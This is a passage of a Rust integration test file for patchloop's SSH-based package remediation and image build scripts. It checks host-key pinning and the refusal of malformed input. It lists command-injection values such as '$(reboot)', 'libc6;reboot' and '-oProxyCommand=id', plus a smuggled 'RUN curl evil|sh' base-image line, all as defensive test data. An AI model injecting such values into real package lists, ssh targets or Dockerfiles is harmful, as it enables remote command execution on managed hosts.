        std::fs::remove_file(sandbox.path("ssh/known_hosts")).expect("rm");
        let out = sandbox.run(script, &[], &sandbox.remediation_env(), &[]);
        assert_exit(&out, 2);
        assert!(
            sandbox
                .read("termination-log")
                .starts_with("refused: no pinned host keys: "),
            "{}",
            sandbox.read("termination-log")
        );
        assert!(sandbox.ssh_calls().is_empty());
    }
    // The pinned Workloads pass whatever their address and port (hashed
    // entries included), and ssh is told to look the key up by their name.
    let sandbox = Sandbox::new();
    sandbox.write("packages", "tzdata 2024a-1.el9\n");
    for (workload, target) in [
        ("web-01", r#"{"address":"10.0.3.17"}"#),
        ("db-01", r#"{"address":"10.0.3.18","port":2222}"#),
        ("db-01", r#"{"address":"db-01.example.com"}"#),
    ] {
        let env = with(
            &sandbox.remediation_env(),
            &[
                ("PATCHLOOP_TARGET", target),
                ("PATCHLOOP_WORKLOAD", workload),
            ],
        );
        let out = sandbox.run("dnf-remediate.sh", &["--dry-run"], &env, &[]);
        assert_exit(&out, 0);
        let text = stdout(&out);
        assert!(
            text.contains(&format!(
                "-o HostKeyAlias=fleet/{workload} -o CheckHostIP=no"
            )),
            "{text}"
        );
    }
    // Names that are not Kubernetes names never become a lookup key.
    for (var, value) in [
        ("PATCHLOOP_WORKLOAD", "web-01,*"),
        ("PATCHLOOP_WORKLOAD", "!web-01"),
        ("PATCHLOOP_NAMESPACE", "fleet/web-01 x"),
        ("PATCHLOOP_NAMESPACE", "*"),
    ] {
        let env = with(&sandbox.remediation_env(), &[(var, value)]);
        let out = sandbox.run("apt-remediate.sh", &["--dry-run"], &env, &[]);
        assert_exit(&out, 2);
        let message = sandbox.read("termination-log");
        assert!(
            message.contains(&format!("{var} is not a Kubernetes")),
            "{message}"
        );
        assert!(!message.contains(value), "{value} echoed: {message}");
    }
    assert!(sandbox.ssh_calls().is_empty());
}

/// The real OpenSSH client accepts the Workload alias as ssh reads it, and
/// ssh-keygen (the same known_hosts matching ssh uses) finds a hashed
/// NAMESPACE/WORKLOAD entry by that name only.
#[test]
fn the_real_ssh_client_reads_the_workload_alias() {
    let out = Command::new(which("ssh"))
        .args([
            "-G",
            "-F",
            "/dev/null",
            "-o",
            "HostKeyAlias=fleet/web-01",
            "-o",
            "CheckHostIP=no",
            "-o",
            "UpdateHostKeys=no",
            "-o",
            "StrictHostKeyChecking=yes",
            "10.0.3.17",
        ])
        .output()
        .expect("ssh -G");
    assert!(out.status.success(), "{}", stderr(&out));
    let config = stdout(&out);
    for line in [
        "hostkeyalias fleet/web-01",
        "checkhostip no",
        "updatehostkeys false",
        "stricthostkeychecking true",
    ] {
        assert!(config.lines().any(|l| l == line), "{line} in:\n{config}");
    }
    let sandbox = Sandbox::new();
    let known_hosts = sandbox.s("ssh/known_hosts");
    let found = |name: &str| {
        Command::new(which("ssh-keygen"))
            .args(["-F", name, "-f", &known_hosts])
            .output()
            .expect("ssh-keygen -F")
            .status
            .success()
    };
    assert!(found("fleet/web-01"));
    assert!(found("fleet/db-01"));
    assert!(!found("fleet/web-02"));
    assert!(!found("other/web-01"));
    assert!(!found("fleet/web-0?"));
    // Unhashed, the '/' is an ordinary character of the host pattern too.
    let hashed = std::fs::read_to_string(&known_hosts).expect("known_hosts");
    let key: String = hashed
        .lines()
        .next()
        .and_then(|l| l.split_once(' '))
        .map(|(_, key)| key.to_owned())
        .expect("a key");
    std::fs::write(&known_hosts, format!("fleet/web-01 {key}\n")).expect("write");
    assert!(found("fleet/web-01"));
    assert!(!found("fleet/web-011"));
    assert!(!found("fleet"));
}

#[test]
fn bad_input_is_refused_before_ssh_runs() {
    let sandbox = Sandbox::new();
    let good = "libc6 2.36-9+deb12u15 glibc\n";
    // (script, packages file, environment changes, unset, expected message)
    struct Case {
        script: &'static str,
        packages: Option<String>,
        changes: Vec<(&'static str, &'static str)>,
        unset: Vec<&'static str>,
        expected: &'static str,
        /// Rejected text the message must not repeat.
        hidden: Option<&'static str>,
    }
    let case = |script, packages: Option<&str>, expected| Case {
        script,
        packages: packages.map(str::to_owned),
        changes: vec![],
        unset: vec![],
        expected,
        hidden: None,
    };
    let mut cases: Vec<Case> = Vec::new();
    for script in ["apt-remediate.sh", "dnf-remediate.sh"] {
        for bad_name in [
            "libc6;reboot",
            "libc6$(id)",
            "`id`",
            "libc6|sh",
            "libc6&&true",
            "-y",
            "libc6>x",
            "lib'c6",
            "lib\\c6",
            "libc6*",
        ] {
            cases.push(Case {
                hidden: Some(bad_name),
                ..case(
                    script,
                    Some(&format!("{bad_name} 1.0-1\n")),
                    "line 1: field 1 is not a valid",
                )
            });
        }
        for bad_version in [
            "1.0;id", "$(id)", "1.0'", "1.0\"", "1.0`id`", "1.0&", "1.0|x", "1.0^1", "1.0\\",
        ] {
            cases.push(Case {
                hidden: Some(bad_version),
                ..case(
                    script,
                    Some(&format!("libc6 {bad_version}\n")),
                    "line 1: field 2 is not a valid",
                )
            });
        }
        cases.extend([
            case(
                script,
                Some("libc6 1.0 glibc;id\n"),
                "line 1: field 3 is not a valid",
            ),
            case(
                script,
                Some("libc6 1.0 glibc extra\n"),
                "expected \"name minimum-fixed-version [source]\"",
            ),
            case(
                script,
                Some("libc6\n"),
                "expected \"name minimum-fixed-version [source]\"",
            ),
            case(script, Some(""), "is empty: nothing to install"),
            case(script, Some("\n  \n"), "is empty: nothing to install"),
            case(script, None, "does not exist or is unreadable"),
        ]);
        for var in [
            "PATCHLOOP_TARGET",
            "PATCHLOOP_PACKAGES_FILE",
            "PATCHLOOP_WORKLOAD",
            "PATCHLOOP_NAMESPACE",
        ] {
            cases.push(Case {
                unset: vec![var],
                ..case(script, Some(good), "missing environment variable")
            });
        }
        cases.push(Case {
            changes: vec![("PATCHLOOP_PURPOSE", "build")],
            ..case(
                script,
                Some(good),
                "PATCHLOOP_PURPOSE is build; this script is for remediation Jobs",
            )
        });
        for (target, expected) in [
            (
                "10.0.3.17",
                "is not a JSON object with a string \"address\"",
            ),
            ("{not json", "is not a JSON object"),
            (r#"["10.0.3.17"]"#, "is not a JSON object"),
            (r#"{"host":"10.0.3.17"}"#, "is not a JSON object"),
            (r#"{"address":17}"#, "is not a JSON object"),
            (
                r#"{"address":"10.0.3.17"} {"address":"10.0.3.18"}"#,
                "must be one JSON object",
            ),
            (
                r#"{"address":"-oProxyCommand=id"}"#,
                "is not a host name or IP address",
            ),
            (
                r#"{"address":"10.0.3.17 -oProxyCommand=id"}"#,
                "is not a host name or IP address",
            ),
            (r#"{"address":"10.0.3.17\nx"}"#, "must be one JSON object"),
            (
                r#"{"address":"10.0.3.17","user":"root;id"}"#,
                "is not a valid user name",
            ),
            (
                r#"{"address":"10.0.3.17","user":"-oProxyCommand=id"}"#,
                "is not a valid user name",
            ),
            (
                r#"{"address":"10.0.3.17","port":"22;id"}"#,
                "is not a port number",
            ),
            (
                r#"{"address":"10.0.3.17","port":70000}"#,
                "is not a port number",
            ),
            (
                r#"{"address":"10.0.3.17","port":0}"#,
                "is not a port number",
            ),
        ] {
            cases.push(Case {
                changes: vec![("PATCHLOOP_TARGET", target)],
                hidden: Some(target),
                ..case(script, Some(good), expected)
            });
        }
    }
    for Case {
        script,
        packages,
        changes,
        unset,
        expected,
        hidden,
    } in cases
    {
        let sandbox_packages = sandbox.path("packages");
        match &packages {
            Some(text) => std::fs::write(&sandbox_packages, text).expect("write"),
            None => {
                let _ = std::fs::remove_file(&sandbox_packages);
            }
        }
        sandbox.write("termination-log", "");
        let env = with(&sandbox.remediation_env(), &changes);
        for args in [&[][..], &["--dry-run"]] {
            let out = sandbox.run(script, args, &env, &unset);
            assert_exit(&out, 2);
            let message = sandbox.read("termination-log");
            assert!(
                message.contains(expected),
                "{script} {packages:?} {changes:?} {unset:?}: {message:?} lacks {expected:?}"
            );
            assert!(stderr(&out).contains(message.trim_end()));
            if let Some(hidden) = hidden {
                assert!(
                    !message.contains(hidden) && !stderr(&out).contains(hidden),
                    "{hidden:?} echoed: {message}"
                );
            }
        }
    }
    assert!(sandbox.ssh_calls().is_empty(), "ssh never ran");
}

#[test]
fn the_build_job_reports_the_image_it_built_with_the_nonce() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "packages",
        "libc-bin 2.36-9+deb12u15 glibc\nlibc6 2.36-9+deb12u15 glibc\n",
    );
    let out = sandbox.run("template-build.sh", &[], &sandbox.build_env(), &[]);
    assert_exit(&out, 0);
    assert_eq!(
        sandbox.read("log/Dockerfile"),
        "# Rendered by template-build.sh for ChangeRequest debian-12-base-x7k2p.\n\
         FROM registry.example.com/golden/debian-12:2026.11.1\n\
         LABEL dev.patchloop.template=\"debian-12-base\" dev.patchloop.revision=\"2\" \
         dev.patchloop.change-request=\"debian-12-base-x7k2p\"\n\
         COPY patchloop-upgrade.sh /tmp/patchloop-upgrade.sh\n\
         RUN sh /tmp/patchloop-upgrade.sh && rm -f /tmp/patchloop-upgrade.sh && rm -rf /var/lib/apt/lists/*\n"
    );
    // The upgrade script, run where the base image's packages are, names
    // only installed packages, as NAME:ARCH.
    let upgrade = Command::new("sh")
        .arg(sandbox.path("log/upgrade.sh"))
        .current_dir(sandbox.path("remote"))
        .env(
            "PATH",
            format!(
                "{}:{}",
                sandbox.s("remote/bin"),
                std::env::var("PATH").unwrap_or_default()
            ),
        )
        .env("REMOTE", sandbox.path("remote"))
        .env_remove("DEBIAN_FRONTEND")
        .output()
        .expect("sh");
    assert_exit(&upgrade, 0);
    assert_eq!(
        sandbox.read("remote/apt-get.log"),
        "apt-get update\napt-get install --only-upgrade -y -o Dpkg::Options::=--force-confdef \
         -o Dpkg::Options::=--force-confold libc-bin:amd64 libc6:amd64\n"
    );
    assert_eq!(
        sandbox.read("log/build"),
        "registry.example.com/golden/debian-12:r2\n"
    );
    let image = format!("registry.example.com/golden/debian-12@{DIGEST}");
    assert_eq!(sandbox.read("log/image.refs"), format!("{image}\n"));
    let inv = sandbox.reported_inventory(&out);
    assert_eq!(
        inv["metadata"]["name"],
        "changerequest-debian-12-base-x7k2p"
    );
    assert_eq!(inv["metadata"]["namespace"], "fleet");
    assert_eq!(
        inv["spec"]["subject"],
        serde_json::json!({"kind": "ChangeRequest", "name": "debian-12-base-x7k2p"})
    );
    assert_eq!(inv["spec"]["nonce"], "9f86d081884c7d659a2feaa0c55ad015");
    assert_eq!(inv["spec"]["image"], image.as_str());
    assert_eq!(inv["spec"]["reporter"], "template-build");
    assert_eq!(inv["spec"]["format"], "dpkg");
    let fixture =
        std::fs::read_to_string(Path::new(FIXTURES).join("dpkg/status")).expect("fixture");
    let installed = parse(InputFormat::DpkgStatus, &fixture).expect("fixture parses");
    assert_eq!(
        inv["spec"]["packages"].as_array().map(Vec::len),
        Some(installed.len())
    );
    // The termination message ends with the result line: the image's digest
    // and the digest of the reported package lines, sorted by bytes, each
    // followed by a newline (computed here apart from the controller's code).
    let mut lines: Vec<String> = inv["spec"]["packages"]
        .as_array()
        .expect("packages")
        .iter()
        .map(|p| p.as_str().expect("a package line").to_owned())
        .collect();
    lines.sort();
    let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
    let packages: String = <sha2::Sha256 as sha2::Digest>::digest(text.as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    assert_eq!(
        sandbox.read("termination-log"),
        format!("result image={DIGEST} packages=sha256:{packages}\n")
    );

    // A build that fails, or writes no digest, reports nothing.
    for (command, expected) in [
        ("exit 7", "the image build failed (exit 7)"),
        ("true", "the build wrote no image digest"),
        (
            r#"echo latest >"$DIGEST_FILE""#,
            "the build wrote no image digest to DIGEST_FILE (expected sha256: and 64 hex digits)",
        ),
    ] {
        let _ = std::fs::remove_file(sandbox.path("log/patchloop.argv"));
        let env = with(
            &sandbox.build_env(),
            &[("PATCHLOOP_BUILD_COMMAND", command)],
        );
        let out = sandbox.run("template-build.sh", &[], &env, &[]);
        assert_exit(&out, 1);
        assert!(
            sandbox.read("termination-log").starts_with(expected),
            "{}",
            sandbox.read("termination-log")
        );
        assert!(!sandbox.path("log/patchloop.argv").exists());
    }
}

#[test]
fn the_build_job_dry_run_prints_the_dockerfile_and_builds_nothing() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "packages",
        "glibc 2.34-100.el9_4.3 glibc\nopenssl-libs 1:3.0.7-28.el9 openssl\n",
    );
    let env = with(
        &sandbox.build_env(),
        &[
            ("PATCHLOOP_PLATFORM", "AlmaLinux:9"),
            ("PATCHLOOP_IMAGE_TAG", "2026.12.1"),
        ],
    );
    let out = sandbox.run("template-build.sh", &["--dry-run"], &env, &[]);
    assert_exit(&out, 0);
    let text = stdout(&out);
    assert!(
        text.contains(
            "RUN sh /tmp/patchloop-upgrade.sh && rm -f /tmp/patchloop-upgrade.sh && dnf clean all\n"
        ),
        "{text}"
    );
    assert!(text.contains("for p in glibc openssl-libs; do"), "{text}");
    assert!(
        text.contains("dnf upgrade -y --refresh $args </dev/null"),
        "{text}"
    );
    assert!(text.contains("IMAGE=registry.example.com/golden/debian-12:2026.12.1 "));
    assert!(text.contains(
        "patchloop inventory --change-request debian-12-base-x7k2p --image registry.example.com/golden/debian-12@\\<digest\\> --nonce 9f86d081884c7d659a2feaa0c55ad015 -n fleet --reporter template-build --from-file rpm-qa:"
    ), "{text}");
    assert!(!sandbox.path("log/Dockerfile").exists(), "nothing built");
    assert!(!sandbox.path("log/image.refs").exists());
    assert!(!sandbox.path("log/patchloop.argv").exists());
}

#[test]
fn the_build_job_refuses_bad_input() {
    let sandbox = Sandbox::new();
    sandbox.write("packages", "libc6 2.36-9+deb12u15 glibc\n");
    let cases: [(&str, &str, &str); 10] = [
        (
            "PATCHLOOP_NONCE",
            "",
            "missing environment variable PATCHLOOP_NONCE",
        ),
        ("PATCHLOOP_NONCE", "abc;id", "PATCHLOOP_NONCE"),
        (
            "PATCHLOOP_BASE_IMAGE",
            "debian:12\nRUN curl evil|sh",
            "PATCHLOOP_BASE_IMAGE",
        ),
        ("PATCHLOOP_REVISION", "2; id", "PATCHLOOP_REVISION"),
        (
            "PATCHLOOP_CHANGE_REQUEST",
            "Bad_Name",
            "PATCHLOOP_CHANGE_REQUEST",
        ),
        (
            "PATCHLOOP_IMAGE_REPOSITORY",
            "",
            "missing environment variable PATCHLOOP_IMAGE_REPOSITORY",
        ),
        ("PATCHLOOP_IMAGE_TAG", "r2 latest", "PATCHLOOP_IMAGE_TAG"),
        (
            "PATCHLOOP_PLATFORM",
            "Alpine:v3.20",
            "with neither apt nor dnf",
        ),
        ("PATCHLOOP_PACKAGE_MANAGER", "zypper", "must be apt or dnf"),
        ("PATCHLOOP_PURPOSE", "test", "this script is for build Jobs"),
    ];
    for (var, value, expected) in cases {
        let env = with(&sandbox.build_env(), &[(var, value)]);
        let out = sandbox.run("template-build.sh", &["--dry-run"], &env, &[]);
        assert_exit(&out, 2);
        assert!(
            sandbox.read("termination-log").contains(expected),
            "{var}={value:?}: {}",
            sandbox.read("termination-log")
        );
    }
    sandbox.write("packages", "libc6 2.36-9+deb12u15 glibc\nlibc6;id 1.0\n");
    let out = sandbox.run("template-build.sh", &[], &sandbox.build_env(), &[]);
    assert_exit(&out, 2);
    assert!(!sandbox.path("log/Dockerfile").exists(), "nothing built");
}

#[test]
fn the_test_job_checks_the_versions_in_the_image_then_runs_the_smoke_test() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "packages",
        "libc6 2.36-9+deb12u14 glibc\nbsdutils 2.38.1-5+deb12u3 util-linux\n",
    );
    let out = sandbox.run("template-test.sh", &[], &sandbox.test_env(), &[]);
    assert_exit(&out, 0);
    assert_eq!(sandbox.read("log/smoke"), "smoke\n");
    let image = format!("registry.example.com/golden/debian-12@{DIGEST}");
    assert_eq!(
        sandbox.read("log/image.refs"),
        format!("{image}\n{image}\n"),
        "both steps ran in the image under test"
    );
    assert!(stdout(&out).contains("ok libc6 2.36-9+deb12u14 2.36-9+deb12u14"));

    // An image below a minimum fails before the smoke test, naming it.
    let _ = std::fs::remove_file(sandbox.path("log/smoke"));
    sandbox.write("packages", "libc6 2.36-9+deb12u15 glibc\n");
    let out = sandbox.run("template-test.sh", &[], &sandbox.test_env(), &[]);
    assert_exit(&out, 1);
    assert_eq!(
        sandbox.read("termination-log"),
        "libc6 2.36-9+deb12u14 is below the fixed version 2.36-9+deb12u15 (source glibc)\n"
    );
    assert!(!sandbox.path("log/smoke").exists());

    // A failing smoke test fails the Job.
    sandbox.write("packages", "libc6 2.36-9+deb12u14 glibc\n");
    let env = with(&sandbox.test_env(), &[("PATCHLOOP_SMOKE_TEST", "exit 3")]);
    let out = sandbox.run("template-test.sh", &[], &env, &[]);
    assert_exit(&out, 1);
    assert!(
        sandbox
            .read("termination-log")
            .starts_with("the smoke test failed in registry.example.com/golden/debian-12@sha256:"),
        "{}",
        sandbox.read("termination-log")
    );

    // Refusals: no image, a non-reference, the wrong Job.
    for (changes, unset, expected) in [
        (
            vec![],
            vec!["PATCHLOOP_IMAGE"],
            "missing environment variable PATCHLOOP_IMAGE",
        ),
        (
            vec![("PATCHLOOP_IMAGE", "img;id")],
            vec![],
            "refused: PATCHLOOP_IMAGE is not valid",
        ),
        (
            vec![("PATCHLOOP_PURPOSE", "build")],
            vec![],
            "this script is for test Jobs",
        ),
    ] {
        let env = with(&sandbox.test_env(), &changes);
        let out = sandbox.run("template-test.sh", &[], &env, &unset);
        assert_exit(&out, 2);
        assert!(
            sandbox.read("termination-log").contains(expected),
            "{}",
            sandbox.read("termination-log")
        );
    }

    // --dry-run runs nothing in the image.
    let _ = std::fs::remove_file(sandbox.path("log/image.refs"));
    let out = sandbox.run("template-test.sh", &["--dry-run"], &sandbox.test_env(), &[]);
    assert_exit(&out, 0);
    assert!(stdout(&out).contains("check libc6 2.36-9+deb12u14 source:Version"));
    assert!(!sandbox.path("log/image.refs").exists());
}

#[test]
fn the_example_manifests_mount_the_scripts_and_the_ssh_secret() {
    use k8s_openapi::api::batch::v1::JobTemplateSpec;
    use patchloop::api::{PatchPolicy, Template};

    let dir = Path::new(JOBS);
    let scripts: BTreeSet<String> = std::fs::read_dir(dir)
        .expect("examples/jobs")
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".sh"))
        .collect();
    let kustomization: Value = serde_saphyr::from_str(
        &std::fs::read_to_string(dir.join("kustomization.yaml")).expect("kustomization"),
    )
    .expect("kustomization parses");
    let generated: BTreeSet<String> = kustomization["configMapGenerator"][0]["files"]
        .as_array()
        .expect("files")
        .iter()
        .map(|f| f.as_str().expect("name").to_owned())
        .collect();
    assert_eq!(generated, scripts, "the ConfigMap carries every script");
    assert_eq!(
        kustomization["configMapGenerator"][0]["name"],
        "patchloop-job-scripts"
    );

    // Every job template runs one of the scripts from that ConfigMap.
    let check = |template: &Value, script: &str, ssh: bool| {
        let job: JobTemplateSpec = serde_json::from_value(template.clone()).expect("job template");
        let pod = job.spec.expect("spec").template.spec.expect("pod");
        let c = &pod.containers[0];
        let command = c.command.clone().unwrap_or_default();
        assert_eq!(command, ["bash", &format!("/opt/patchloop/jobs/{script}")]);
        assert!(scripts.contains(script));
        let volumes = pod.volumes.unwrap_or_default();
        let mounted = |name: &str| {
            c.volume_mounts
                .iter()
                .flatten()
                .find(|m| m.name == name)
                .map(|m| m.mount_path.clone())
        };
        let scripts_volume = volumes
            .iter()
            .find(|v| v.name == "scripts")
            .expect("scripts volume");
        assert_eq!(
            scripts_volume.config_map.as_ref().map(|c| c.name.as_str()),
            Some("patchloop-job-scripts")
        );
        assert_eq!(mounted("scripts").as_deref(), Some("/opt/patchloop/jobs"));
        if ssh {
            let secret = volumes
                .iter()
                .find(|v| v.name == "ssh")
                .and_then(|v| v.secret.clone())
                .expect("ssh Secret volume");
            assert_eq!(secret.secret_name.as_deref(), Some("fleet-ssh"));
            assert_eq!(secret.default_mode, Some(0o440));
            assert_eq!(mounted("ssh").as_deref(), Some("/etc/patchloop/ssh"));
        }
    };
    let mut seen = BTreeSet::new();
    for file in ["remediation.yaml", "template.yaml"] {
        let text = std::fs::read_to_string(dir.join(file)).expect("manifest");
        let docs: Vec<Value> = serde_saphyr::from_multiple(&text).expect("manifest parses");
        for doc in docs {
            match doc["kind"].as_str() {
                Some("PatchPolicy") => {
                    let policy: PatchPolicy =
                        serde_json::from_value(doc.clone()).expect("a PatchPolicy");
                    let name = policy.metadata.name.clone().unwrap_or_default();
                    let script = if name.starts_with("apt") {
                        "apt-remediate.sh"
                    } else {
                        "dnf-remediate.sh"
                    };
                    check(&doc["spec"]["remediation"]["jobTemplate"], script, true);
                    seen.insert(script);
                }
                Some("Template") => {
                    let _: Template = serde_json::from_value(doc.clone()).expect("a Template");
                    check(&doc["spec"]["buildJobTemplate"], "template-build.sh", false);
                    check(&doc["spec"]["testJobTemplate"], "template-test.sh", false);
                    seen.extend(["template-build.sh", "template-test.sh"]);
                }
                other => panic!("{file}: unexpected kind {other:?}"),
            }
        }
    }
    assert_eq!(seen.len(), 4, "every script is used: {seen:?}");
}

#[test]
fn the_scripts_are_shellcheck_clean() {
    let mut cmd = Command::new(which("shellcheck"));
    cmd.current_dir(JOBS).arg("-x");
    for script in SCRIPTS.iter().chain(&["patchloop-lib.sh"]) {
        cmd.arg(script);
    }
    let out = cmd.output().expect("shellcheck");
    assert_exit(&out, 0);
}

/// Every name apt or dnf would read as more than one package name: an
/// action suffix, an option, a version or release selector, a pattern, a
/// group, a path, shell syntax, control characters, overlong text.
const ACTION_NAMES: [&str; 27] = [
    "openssh-server-",
    "pkg=1.0",
    "pkg/bookworm",
    "-pkg",
    "--purge",
    "pkg*",
    "?garbage",
    "~nfoo",
    "pkg:amd64-",
    "pkg:amd64+",
    "pkg@repo",
    "@core",
    "/usr/sbin/sshd",
    "pkg.*",
    "pkg[0]",
    "pkg|id",
    "$(reboot)",
    "`reboot`",
    "pkg'x",
    "pkg\"x",
    "pkg;reboot",
    "pkg\u{1b}[2J",
    "pkg\rreboot",
    "pkg\\x",
    "pkg-:amd64",
    "openssh-server-:amd64",
    "pkg>=1",
];

#[test]
fn names_apt_or_dnf_would_read_as_actions_are_refused_without_echo() {
    let overlong = "a".repeat(201);
    let overlong_line = format!("libc6 1.0 {}", "b".repeat(1100));
    let mut lists: Vec<(String, String)> = ACTION_NAMES
        .iter()
        .map(|name| (format!("{name} 1.0-1\n"), (*name).to_owned()))
        .collect();
    // Spaces and newlines split the name into other fields and lines.
    lists.push(("pkg name x 1.0-1\n".into(), "pkg name x".into()));
    lists.push(("openssh\nserver- 1.0-1\n".into(), "server-".into()));
    lists.push((format!("{overlong} 1.0-1\n"), overlong.clone()));
    lists.push((format!("{overlong_line}\n"), "b".repeat(100)));
    // One bad line refuses the whole list: nothing runs.
    lists.push((
        "libc6 2.36-9+deb12u15 glibc\nopenssh-server- 1.0-1\n".into(),
        "openssh-server-".into(),
    ));
    for script in ["apt-remediate.sh", "dnf-remediate.sh"] {
        for (packages, hidden) in &lists {
            for args in [&["--dry-run"][..], &[]] {
                let sandbox = Sandbox::new();
                sandbox.write("packages", packages);
                let out = sandbox.run(script, args, &sandbox.remediation_env(), &[]);
                assert_exit(&out, 2);
                let message = sandbox.read("termination-log");
                assert!(
                    message.starts_with("refused: ") && message.contains(" line "),
                    "{script} {packages:?}: {message}"
                );
                for text in [&message, &stdout(&out), &stderr(&out)] {
                    assert!(
                        !text.contains(hidden.as_str()),
                        "{script} {packages:?}: {hidden:?} echoed in {text}"
                    );
                }
                assert!(sandbox.ssh_calls().is_empty(), "{script} {packages:?}");
                assert_eq!(sandbox.read("remote/apt-get.log"), "");
                assert_eq!(sandbox.read("remote/dnf.log"), "");
            }
        }
    }
}

#[test]
fn only_installed_packages_reach_apt_and_dnf_as_name_and_arch() {
    // g++ (a valid name ending in '+') is installed; libc6+ (apt would read
    // it as "install libc6") and not-installed-here are not: both are
    // skipped and reported, never installed.
    let sandbox = Sandbox::new();
    sandbox.write(
        "packages",
        "libc6 2.36-9+deb12u15 glibc\nnot-installed-here 1.0-1\ng++ 1.203 gcc-defaults\nlibc6+ 1.0\n",
    );
    sandbox.write("remote/candidates", "libc6 2.36-9+deb12u15\n");
    let out = sandbox.run("apt-remediate.sh", &[], &sandbox.remediation_env(), &[]);
    assert_exit(&out, 0);
    assert_eq!(
        sandbox.read("remote/apt-get.log"),
        "apt-get update -q\napt-get install --only-upgrade -y -o Dpkg::Options::=--force-confdef \
         -o Dpkg::Options::=--force-confold libc6:amd64 g++:amd64\n"
    );
    let text = stdout(&out);
    for line in [
        "skipped not-installed-here: not installed on this machine",
        "skipped libc6+: not installed on this machine",
        "absent libc6+ - 1.0",
        "ok g++ 1.203 1.203",
    ] {
        assert!(text.lines().any(|l| l == line), "{line} in {text}");
    }

    // Nothing installed: apt does not run at all.
    let sandbox = Sandbox::new();
    sandbox.write("packages", "libc6+ 1.0\nopenssh-server 1:9.2p1-2+deb12u9\n");
    let out = sandbox.run("apt-remediate.sh", &[], &sandbox.remediation_env(), &[]);
    assert_exit(&out, 0);
    assert_eq!(sandbox.read("remote/apt-get.log"), "");
    assert!(
        stdout(&out).contains("nothing to upgrade: no listed package is installed"),
        "{}",
        stdout(&out)
    );

    // dnf: NAME.ARCH of each installed instance; the rest skipped.
    let sandbox = Sandbox::new();
    sandbox.write(
        "packages",
        "glibc 2.34-100.el9_4.3 glibc\nopenssh-server 8.7p1-38.el9\nlibstdc++ 11.4.1-3.el9\n",
    );
    let out = sandbox.run("dnf-remediate.sh", &[], &sandbox.remediation_env(), &[]);
    assert_exit(&out, 0);
    assert_eq!(
        sandbox.read("remote/dnf.log"),
        "dnf upgrade -y --refresh glibc.i686 glibc.x86_64\n"
    );
    for line in [
        "skipped openssh-server: not installed on this machine",
        "skipped libstdc++: not installed on this machine",
    ] {
        assert!(stdout(&out).lines().any(|l| l == line), "{line}");
    }
}

/// The real apt on this machine (simulating, `-s`) reads the NAME:ARCH form
/// the scripts pass as exactly that package, for installed packages whose
/// names end in or contain '+', while the same name with a trailing '-' is
/// read as a removal.
#[test]
fn the_real_apt_reads_name_and_arch_as_one_package() {
    let listing = Command::new(which("dpkg-query"))
        .args(["-W", "-f=${db:Status-Abbrev}|${Package}|${Architecture}\n"])
        .output()
        .expect("dpkg-query");
    let listing = stdout(&listing);
    let plus: Vec<(&str, &str)> = listing
        .lines()
        .filter_map(|l| {
            let mut f = l.split('|');
            let (state, name, arch) = (f.next()?, f.next()?, f.next()?);
            (state.as_bytes().get(1) == Some(&b'i') && name.contains('+')).then_some((name, arch))
        })
        .collect();
    assert!(
        plus.iter().any(|(name, _)| name.ends_with('+')),
        "an installed package whose name ends in '+' (g++): {plus:?}"
    );
    let apt = |arg: &str| {
        let out = Command::new(which("apt-get"))
            .args([
                "-s",
                "-o",
                "Debug::NoLocking=1",
                "install",
                "--only-upgrade",
                arg,
            ])
            .env("DEBIAN_FRONTEND", "noninteractive")
            .output()
            .expect("apt-get -s");
        format!("{}{}", stdout(&out), stderr(&out))
    };
    for (name, arch) in &plus {
        let said = apt(&format!("{name}:{arch}"));
        assert!(!said.contains("Remv "), "{name}:{arch}: {said}");
        assert!(
            said.contains(&format!("{name} is already the newest version"))
                || said.contains(&format!("Inst {name} ")),
            "{name}:{arch} is read as the package {name}: {said}"
        );
    }
    let (name, _) = plus
        .iter()
        .find(|(name, _)| name.ends_with('+'))
        .expect("checked above");
    let said = apt(&format!("{name}-"));
    assert!(
        said.contains(&format!("Remv {name} ")) || said.contains("E: "),
        "{name}- is a removal to apt: {said}"
    );
}
